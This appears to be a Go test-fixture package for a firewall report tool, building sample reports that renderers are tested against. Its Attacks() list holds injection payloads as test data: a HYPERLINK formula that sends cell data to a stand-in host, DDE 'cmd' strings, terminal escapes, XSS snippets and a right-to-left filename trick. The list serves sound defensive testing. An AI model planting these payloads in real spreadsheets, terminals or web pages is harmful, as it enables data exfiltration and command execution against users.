// Package reporttest makes the reports that every renderer is tried with: all
// kinds of cells, absent ones, a manifest with every sort of input, and what an
// attacker may have had logged. It states no expectation of how a renderer
// shows them; each renderer's tests write down their own, by hand.
package reporttest

import (
	"iter"
	"strings"
	"time"

	"fwreport/reader/evidence"
	"fwreport/report"
)

// Attacks are texts that did harm in some output once: formulas, terminal
// escapes, markup, bytes that are no UTF-8, text that hides or turns around.
func Attacks() []string {
	return []string{
		`=HYPERLINK("http://198.51.100.9/?"&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		`-1+1`,
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"\x00=1+1",
		"\uff1d1+1", // full-width =
		"\uff0b1",
		"\uff0d1",
		"\uff20x",
		"  =1+1",
		"x;=1+1",
		"\x1b[2J\x1b]0;owned\x07gone",
		"\u009b31mred",
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		"caf\xe9 \xff\xfe",
		"\u202efdp.exe",
		"zero\u200bwidth\u2028line",
		`_x0041_ and _x000D_`,
		`a "quoted", text` + "\nof two lines",
		`\x1b is four characters here`,
		"🔥 防火墙 e\u0301",
	}
}

// Time is a Unix time in nanoseconds of RFC 3339 text; it panics on other text.
func Time(s string) int64 {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t.UnixNano()
}

// Long is a text of 40,000 characters, longer than a spreadsheet's cell holds.
func Long() string { return strings.Repeat("0123456789", 4000) }

// Sample is a small report with everything in it. It is new at every call.
func Sample() *report.Report {
	r := &report.Report{
		Title:     "Firewall report",
		Generator: report.Generator{Name: "fwreport", Version: "1.2.3"},
		Command:   []string{"--since", "2026-03-01", "--format", "html", "logs/"},
		Zone:      "UTC", Location: time.UTC,
		Window: report.Window{Since: Time("2026-03-01T00:00:00Z"), Until: report.NoTime},
		Span:   report.Span{First: Time("2026-03-01T00:00:02Z"), Last: Time("2026-03-07T23:59:58.25Z")},
		Notes:  []string{"The evidence is incomplete: 1 of 3 inputs was cut.", "2 verdicts are undetermined."},
	}
	r.Evidence = manifest()
	r.Sections = []report.Section{overview(), denied(), attacks()}
	return r
}

func manifest() evidence.Manifest {
	return evidence.Manifest{
		Totals: evidence.Ledger{Read: 12360, Events: 12000, Other: 300, Malformed: 5, Duplicates: 20, Outside: 25, Filtered: 10, Repeats: 7},
		Inputs: []evidence.Input{
			{Path: "logs/kern.log.2.gz", Family: "kern.log", Format: "syslog", Compression: "gzip", Size: 1234567,
				MTime: Time("2026-03-08T06:25:01Z"), SHA256: strings.Repeat("0123456789abcdef", 4), YearFrom: "mtime", ZoneFrom: "--tz UTC",
				First: Time("2026-03-01T00:00:02Z"), Last: Time("2026-03-07T23:59:58.25Z"),
				Records: evidence.Ledger{Read: 12000, Events: 11700, Other: 250, Malformed: 5, Duplicates: 20, Outside: 15, Filtered: 10, Repeats: 7},
				Notes:   []string{"the year is that of the file's time"},
				Rejects: []evidence.Reject{{Record: 17, Reason: "no SRC", Text: "kernel: IN=eth0 \xff\x1b[31m"}},
				Reasons: map[string]uint64{"no SRC": 4, "bad port": 1},
				Losses:  []evidence.Loss{{Class: "kernel_lost", Notices: 2, Lost: 40}}},
			{Path: "logs/=cap.pcap", Format: "pcap", Size: 99, MTime: report.NoTime, SHA256: strings.Repeat("f", 64),
				First: report.NoTime, Last: report.NoTime, Incomplete: true,
				Records: evidence.Ledger{Read: 360, Events: 300, Other: 50, Outside: 10},
				Notes:   []string{"cut inside packet 361"}},
			{Path: "-", Size: -1, MTime: report.NoTime, First: report.NoTime, Last: report.NoTime, Skipped: "no format took it"},
		},
	}
}

func overview() report.Section {
	hours := [][]report.Value{}
	for i, n := range []uint64{4, 0, 16, 8} {
		hours = append(hours, []report.Value{report.TimeOf(Time("2026-03-01T00:00:00Z") + int64(i)*int64(time.Hour)),
			report.CountOf(n), report.CountOf(1), report.CountOf(0)})
	}
	return report.Section{
		ID: "overview", Title: "Overview", Doc: "All events by action.",
		Findings: []report.Finding{{Confidence: report.Observed, Text: "831 sources were denied.", Evidence: []string{"logs/kern.log.2.gz:1"}}},
		Charts: []report.Chart{{ID: "timeline", Title: "Events over time", Kind: report.StackedBars, Table: "timeline", X: "time",
			Y: []string{"denied", "accepted", "undetermined"}}},
		Tables: []report.Table{{
			ID: "timeline", Title: "Events over time", TotalRows: 4, TotalCount: 32,
			Columns: []report.Column{report.KeyCol("time", "Time", report.Time), report.Col("denied", "Denied", report.Count),
				report.Col("accepted", "Accepted", report.Count), report.Col("undetermined", "Undetermined", report.Count)},
			Rows: report.RowsOf(hours),
		}},
	}
}

// DeniedColumns are the columns of the table "denied" of Sample: every kind.
func DeniedColumns() []report.Column {
	return []report.Column{
		report.Col("count", "Count", report.Count), report.KeyCol("src", "Source", report.Address),
		report.Col("sport", "Source port", report.Port), report.KeyCol("dport", "Port", report.Port),
		report.KeyCol("proto", "Protocol", report.Text), report.Col("bytes", "Bytes", report.Bytes),
		report.Col("share", "Share", report.Ratio), report.Col("org", "Organisation", report.Text),
		report.Col("first", "First", report.Time), report.Col("last", "Last", report.Time),
		report.Col("lasted", "Lasted", report.Duration), report.Col("evidence_first", "First record", report.Evidence),
	}
}

func denied() report.Section {
	rows := [][]report.Value{
		{report.CountOf(11000), report.AddressText("203.0.113.7"), report.PortOf(6000), report.PortOf(22), report.TextOf("TCP"),
			report.BytesOf(440000), report.RatioOf(0.9166666666666666), report.TextOf("EXAMPLE-NET, Example Ltd."),
			report.TimeOf(Time("2026-03-01T00:00:02Z")), report.TimeOf(Time("2026-03-07T23:59:58.25Z")),
			report.DurationOf(int64(90 * time.Second)), report.EvidenceOf("logs/kern.log.2.gz:1")},
		{report.CountOf(1000), report.AddressText("2001:db8:1234:5678:9abc:def0:1234:5678"), report.Null, report.PortOf(0), report.EmptyText(""),
			report.BytesOf(0), report.RatioOf(0.0001), report.Null, report.Null, report.Null, report.Null, report.EvidenceOf("logs/=cap.pcap#3")},
	}
	return report.Section{
		ID: "denied", Title: "Denied packets", Doc: "Denied events by source, port and protocol.",
		Findings: []report.Finding{{Confidence: report.Possible, Text: "203.0.113.7 may have scanned.", Evidence: []string{"a:1", "b:2"}}},
		Notes:    []string{"Ports are those of the outer packet."},
		Tables: []report.Table{
			{ID: "denied", Title: "Denied", Doc: "One row a group.", Columns: DeniedColumns(), Rows: report.RowsOf(rows), TotalRows: 2, TotalCount: 12000},
			{ID: "empty", Title: "Nothing", Columns: DeniedColumns()[:3], Rows: report.RowsOf(nil)},
		},
	}
}

func attacks() report.Section {
	var rows [][]report.Value
	for i, a := range append(Attacks(), Long()) {
		rows = append(rows, []report.Value{report.CountOf(uint64(100 - i)), report.TextOf(a), report.EvidenceOf(a + ":1")})
	}
	return report.Section{
		ID: "rules", Title: "Rules [a/b]: prefixes?", Doc: "Whoever is logged writes part of the log.",
		Findings: []report.Finding{{Confidence: report.Inferred, Text: "A prefix holds \x1b[31m <b>escapes</b>."}},
		Tables: []report.Table{{
			ID: "prefixes", Title: "Rules [a/b]: the prefixes of all the rules?", TotalRows: len(rows), TotalCount: 2275,
			Columns: []report.Column{report.Col("count", "Count", report.Count), report.KeyCol("prefix", "Prefix", report.Text),
				report.Col("evidence_first", "First record", report.Evidence)},
			Rows: report.RowsOf(rows),
		}},
	}
}

// Evidence is a section on the evidence as an analyzer makes it, with negative
// lengths, a table without rows, and tables whose counts are not of events.
func Evidence() report.Section {
	clock := func(n uint64, at string, step time.Duration, kind string) []report.Value {
		return []report.Value{report.CountOf(n), report.TextOf("gw1"), report.TimeOf(Time(at)), report.DurationOf(int64(step)), report.TextOf(kind),
			report.EvidenceOf("logs/kern.log.2.gz:17")}
	}
	count := func(title string) report.Column { return report.Col("count", title, report.Count) }
	return report.Section{
		ID: report.EvidenceSection, Title: "Evidence", Doc: "What the records and files say about themselves.",
		Findings: []report.Finding{{Confidence: report.Inferred, Text: "On gw1 the clock was set back by 1h23m0s.", Evidence: []string{"logs/kern.log.2.gz:17"}}},
		Notes:    []string{"Silent spans were not looked for."},
		Tables: []report.Table{
			{ID: "clock", Title: "Clock", Doc: "Where stamps and uptimes part.", TotalRows: 3, TotalCount: 531,
				Columns: []report.Column{count("Count"), report.KeyCol("host", "Host", report.Text), report.KeyCol("time", "Time", report.Time),
					report.KeyCol("step", "Step", report.Duration), report.KeyCol("kind", "Kind", report.Text), report.Col("evidence_after", "Record after", report.Evidence)},
				Rows: report.RowsOf([][]report.Value{
					clock(500, "2026-03-04T03:41:05Z", -83*time.Minute, "step"),
					clock(30, "2026-03-05T10:36:24Z", 1176*time.Hour+15*time.Minute+4*time.Second+500*time.Microsecond, "contradiction"),
					clock(1, "2026-03-06T10:36:24Z", -12500*time.Millisecond, "step")})},
			{ID: "gaps", Title: "Gaps", Doc: "Where nothing was logged.", Rows: report.RowsOf(nil),
				Columns: []report.Column{count("Expected"), report.KeyCol("host", "Host", report.Text)}},
			{ID: "overlaps", Title: "Overlaps", TotalRows: 1, TotalCount: 20,
				Columns: []report.Column{count("In both"), report.KeyCol("family", "Family", report.Text), report.KeyCol("other", "Other family", report.Text)},
				Rows:    report.RowsOf([][]report.Value{{report.CountOf(20), report.TextOf("logs/kern.log"), report.TextOf("logs/syslog")}})},
			{ID: "losses", Title: "Notices", TotalRows: 2, TotalCount: 40,
				Columns: []report.Column{count("Lost"), report.KeyCol("class", "Class", report.Text), report.Col("effect", "Effect on counts", report.Text)},
				Rows: report.RowsOf([][]report.Value{
					{report.CountOf(40), report.TextOf("kernel_lost"), report.TextOf("lower bounds")},
					{report.Null, report.TextOf("boot"), report.TextOf("none")}})},
		},
	}
}

// Rows makes n rows of a count, an address and a text, one after the other, as
// an analyzer's state would: they never stand in memory together.
func Rows(n int) iter.Seq[[]report.Value] {
	return func(yield func([]report.Value) bool) {
		row := make([]report.Value, 3)
		for i := range n {
			row[0], row[1], row[2] = report.CountOf(uint64(n-i)), report.AddressText("192.0.2.1"), report.TextOf("DROP")
			if !yield(row) {
				return
			}
		}
	}
}

// Big is a report of one table of n rows, made by Rows.
func Big(n int) *report.Report {
	return &report.Report{Title: "Big", Zone: "UTC", Location: time.UTC,
		Window: report.Window{Since: report.NoTime, Until: report.NoTime}, Span: report.Span{First: report.NoTime, Last: report.NoTime},
		Sections: []report.Section{{ID: "big", Title: "Big", Tables: []report.Table{{
			ID: "big", Title: "Big", TotalRows: n, TotalCount: uint64(n) * uint64(n+1) / 2, Rows: Rows(n),
			Columns: []report.Column{report.Col("count", "Count", report.Count), report.KeyCol("src", "Source", report.Address),
				report.Col("action", "Action", report.Text)}}}}}}
}
